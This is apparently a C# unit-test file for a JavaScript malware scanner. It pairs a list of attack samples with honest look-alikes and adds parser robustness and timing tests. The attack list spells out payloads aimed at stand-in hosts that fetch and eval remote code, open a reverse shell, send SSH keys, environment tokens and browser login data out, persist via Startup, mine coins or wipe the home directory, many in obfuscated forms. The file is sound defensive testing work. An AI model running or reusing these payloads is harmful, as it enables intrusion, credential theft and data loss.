using System.Text;

namespace Assay.Scanning.Tests.Behaviour;

/// <summary>JavaScript of Node, browsers and script hosts: attacks beside their honest twins.</summary>
public sealed class JavaScriptTests
{
    private const string Bait = "require('child_process').exec('powershell -c iwr(\"http://evil.invalid/a\")|iex')";

    public static TheoryData<string> Attacks =>
    [
        "const https=require('https'); https.get('https://evil.invalid/a.js', res=>{ let d=''; res.on('data',c=>d+=c); res.on('end',()=>eval(d)); });",
        "const {exec}=require('child_process'); require('http').get('http://evil.invalid/c', r=>{ r.on('data', b=>exec(b.toString())) });",
        "fetch('https://evil.invalid/a').then(r=>r.text()).then(t=>eval(t))",
        "fetch('https://evil.invalid/a').then(r=>r.text()).then(eval)",
        "(async()=>{ const r=await fetch('https://evil.invalid/a'); const t=await r.text(); new Function(t)(); })()",
        "const axios=require('axios'); const cp=require('child_process'); axios.get('http://evil.invalid/c').then(({data})=>cp.exec(data.cmd));",
        "import axios from 'axios'; import {execSync} from 'node:child_process'; async function main(){ const res = await axios.get('http://evil.invalid/c'); execSync(res.data); } main();",
        "const fs=require('fs'),https=require('https'),{spawn}=require('child_process'),path=require('path'),os=require('os'); const p=path.join(os.tmpdir(),'u.exe'); const f=fs.createWriteStream(p); https.get('https://evil.invalid/u.exe',r=>{ r.pipe(f); f.on('finish',()=>{ spawn(p,[],{detached:true,stdio:'ignore',windowsHide:true}).unref(); }); });",
        "const cp=require('child_process'); cp.execSync('powershell -w hidden -c \"iwr http://evil.invalid/a|iex\"')",
        "require('child_process').execSync('certutil -urlcache -f http://evil.invalid/a.exe a.exe & a.exe')",
        "eval(atob('" + Base64(Bait) + "'))",
        "eval(Buffer.from('" + Base64(Bait) + "','base64').toString())",
        "new Function(Buffer.from('" + Convert.ToHexString(Encoding.UTF8.GetBytes(Bait)) + "','hex').toString('utf8'))()",
        "eval(String.fromCharCode(" + string.Join(',', Bait.Select(c => (int)c)) + "))",
        "eval([" + string.Join(',', Bait.Select(c => (int)c)) + "].map(c=>String.fromCharCode(c)).join(''))",
        "eval('" + new string([.. Bait.Reverse()]).Replace("'", "\\'", StringComparison.Ordinal) + "'.split('').reverse().join(''))",
        "var k=7,d=[" + string.Join(',', Bait.Select(c => c ^ 7)) + "],o='';for(var i=0;i<d.length;i++){o+=String.fromCharCode(d[i]^k)}eval(o)",
        "const _0x1=['Y2hpbGRfcHJvY2Vzcw==','ZXhlYw==']; const g=i=>atob(_0x1[i]); require(g(0))[g(1)]('powershell -c \"irm http://evil.invalid/a|iex\"');",
        "globalThis['ev'+'al'](atob('" + Base64(Bait) + "'))",
        "[]['constructor']['constructor'](atob('" + Base64(Bait) + "'))()",
        "setTimeout(atob('" + Base64(Bait) + "'),100)",
        "process.mainModule.require('child_process').exec('powershell -c \"irm http://evil.invalid/a|iex\"')",
        "var s=new ActiveXObject('WScript.Shell'); s.Run('powershell -w hidden -c \"iwr http://evil.invalid/a|iex\"',0);",
        "var x=new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET','http://evil.invalid/a.exe',false); x.send(); var st=new ActiveXObject('ADODB.Stream'); st.Open(); st.Type=1; st.Write(x.responseBody); st.SaveToFile('C:\\\\Users\\\\Public\\\\a.exe',2); new ActiveXObject('WScript.Shell').Run('C:\\\\Users\\\\Public\\\\a.exe');",
        "var x=new ActiveXObject('Msxml2.XMLHTTP.6.0'); x.open('GET','http://evil.invalid/a.js',false); x.send(); eval(x.responseText);",
        "const net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]); const c=new net.Socket(); c.connect(4444,'203.0.113.5',()=>{ c.pipe(sh.stdin); sh.stdout.pipe(c); });",
        "const fs=require('fs'),os=require('os'),https=require('https'); const k=fs.readFileSync(os.homedir()+'/.ssh/id_rsa','utf8'); const r=https.request({hostname:'evil.invalid',path:'/c',method:'POST'}); r.write(k); r.end();",
        "fetch('https://evil.invalid/c',{method:'POST',body:JSON.stringify(process.env)})",
        "require('axios').post('https://evil.invalid/c',{t:process.env.HF_TOKEN})",
        "const fs=require('fs'); fs.readFile(require('path').join(process.env.LOCALAPPDATA,'Google/Chrome/User Data/Default/Login Data'),(e,d)=>{ require('axios').post('https://evil.invalid/c',d) });",
        "require('fs').copyFileSync(__filename, process.env.APPDATA+'\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\u.js')",
        "const ws=new WebSocket('wss://evil.invalid/c'); ws.onmessage=e=>eval(e.data);",
        "const W=require('ws'); const c=new W('wss://evil.invalid'); c.on('message',m=>require('child_process').exec(m.toString(),(e,o)=>c.send(o)));",
        "const cp=require('child_process'); const run=u=>new Promise((res,rej)=>{ require('https').get(u,r=>{ let b=[]; r.on('data',c=>b.push(c)); r.on('end',()=>res(Buffer.concat(b).toString())) }) }); run('https://evil.invalid/c').then(c=>cp.exec(c));",
        "navigator.clipboard.writeText('powershell -w hidden -c \"iwr http://evil.invalid/v|iex\"')",
        "require('child_process').exec('xmrig.exe -o stratum+tcp://pool.invalid:3333')",
        "require('fs').rmSync(require('os').homedir(),{recursive:true,force:true})",
        "const zlib=require('zlib'); eval(zlib.inflateSync(Buffer.from('" + Zlib(Bait) + "','base64')).toString())",
    ];

    public static TheoryData<string> Honest =>
    [
        "import { pipeline } from '@huggingface/transformers';\nconst pipe = await pipeline('sentiment-analysis');\nconst out = await pipe('I love it');\nconsole.log(out);",
        "const { execSync } = require('child_process');\nconst version = execSync('git rev-parse HEAD').toString().trim();\nconsole.log(version);",
        "const { spawn } = require('child_process');\nconst p = spawn('python', ['server.py', '--port', '8000']);\np.stdout.on('data', d => console.log(`${d}`));",
        "const img = atob(json.image); const bytes = new Uint8Array(img.length); for (let i = 0; i < img.length; i++) bytes[i] = img.charCodeAt(i); const url = URL.createObjectURL(new Blob([bytes]));",
        "const res = await fetch('/api/generate', { method: 'POST', headers: {'Content-Type':'application/json'}, body: JSON.stringify({ prompt }) }); const data = await res.json(); document.getElementById('out').textContent = data.text;",
        "var root = Function('return this')(); (function(global, factory){ typeof exports === 'object' ? factory(exports) : factory(global.Lib = {}); })(this, function(exports){ exports.version = '1.0'; });",
        "const ws = new WebSocket(`ws://${location.host}/queue/join`); ws.onmessage = (e) => { const msg = JSON.parse(e.data); if (msg.msg === 'process_completed') render(msg.output); };",
        "const fs = require('fs'); const https = require('https'); const file = fs.createWriteStream('model.onnx'); https.get('https://huggingface.co/org/m/resolve/main/model.onnx', res => { res.pipe(file); });",
        "const OpenAI = require('openai'); const client = new OpenAI({ apiKey: process.env.OPENAI_API_KEY }); const r = await client.chat.completions.create({ model: 'x', messages: [] });",
        "const port = process.env.PORT || 3000; require('http').createServer((req, res) => { res.end('ok'); }).listen(port);",
        "navigator.clipboard.writeText('pip install transformers'); button.textContent = 'Copied';",
        "const esbuild = require('esbuild'); esbuild.buildSync({ entryPoints: ['src/index.ts'], bundle: true, outfile: 'dist/index.js' }); require('fs').rmSync('dist', { recursive: true, force: true });",
        "export async function loadVocab(url: string): Promise<Map<string, number>> { const r = await fetch(url); const t = await r.text(); const m = new Map<string, number>(); t.split('\\n').forEach((w, i) => m.set(w, i)); return m; }",
        "fetch('https://huggingface.co/api/models', { headers: { Authorization: `Bearer ${process.env.HF_TOKEN}` } }).then(r => r.json()).then(m => console.log(m.length));",
        "$.get('config.json', function(c){ $('#name').text(c.name); }); $('form').on('submit', function(e){ e.preventDefault(); $.post('/predict', $(this).serialize()); });",
        "const s = '" + new string('a', 500) + "'; const decoded = decodeURIComponent('caf%C3%A9'); console.log(decoded.split('').reverse().join(''));",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void An_attack_is_malicious(string code) => BehaviourAssert.Malicious("index.js", code);

    [Theory]
    [MemberData(nameof(Honest))]
    public void An_honest_script_is_clean(string code) => BehaviourAssert.Clean("index.js", code);

    [Fact]
    public void Damaged_scripts_are_read_without_failing()
    {
        foreach (var row in Attacks.Concat(Honest))
            BehaviourAssert.IsTotal(CodeLanguage.JavaScript, row.Data);
    }

    [Theory]
    [InlineData("(")]
    [InlineData("[")]
    [InlineData("{")]
    [InlineData("{a:")]
    [InlineData("`${")]
    [InlineData("f(")]
    [InlineData("a=>")]
    [InlineData("function(){")]
    [InlineData("!")]
    [InlineData("new ")]
    [InlineData("a?")]
    [InlineData("if(a)")]
    [InlineData("a.b.")]
    [InlineData("a[0]")]
    [InlineData("a+b-")]
    public void Deep_nesting_is_survived(string piece) => BehaviourAssert.Acts(CodeLanguage.JavaScript, string.Concat(Enumerable.Repeat(piece, 20_000)));

    [Fact]
    public void A_large_bundle_is_read_in_bounded_time()
    {
        var unit = "function n(t,e){var r=t[e];return r?(r.exports||{}):(t[e]={exports:{}},Object.assign(t[e],{id:e,loaded:!1}),t[e].exports)}var a={b:[1,2,3],c:\"x\"};";
        var bundle = string.Concat(Enumerable.Repeat(unit, (10 << 20) / unit.Length));
        var clock = System.Diagnostics.Stopwatch.StartNew();
        BehaviourAssert.Acts(CodeLanguage.JavaScript, bundle);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(5), clock.Elapsed.ToString());
        clock.Restart();
        BehaviourAssert.Acts(CodeLanguage.JavaScript, bundle[..(1 << 20)]);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(8), clock.Elapsed.ToString());
    }

    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    private static string Zlib(string text)
    {
        using var output = new MemoryStream();
        using (var stream = new System.IO.Compression.ZLibStream(output, System.IO.Compression.CompressionMode.Compress))
            stream.Write(Encoding.UTF8.GetBytes(text));
        return Convert.ToBase64String(output.ToArray());
    }
}
